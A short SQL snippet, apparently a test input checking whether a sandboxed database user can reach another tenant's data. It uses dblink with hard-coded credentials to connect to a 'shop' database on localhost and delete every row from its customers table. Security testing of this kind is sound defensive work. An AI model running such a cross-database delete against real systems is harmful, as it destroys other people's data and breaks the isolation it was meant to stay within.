-- Tries: to write into a database of others.
create extension dblink; select dblink_exec('host=127.0.0.1 dbname=shop user=boss password=secret port=' || current_setting('port'), 'delete from customers');
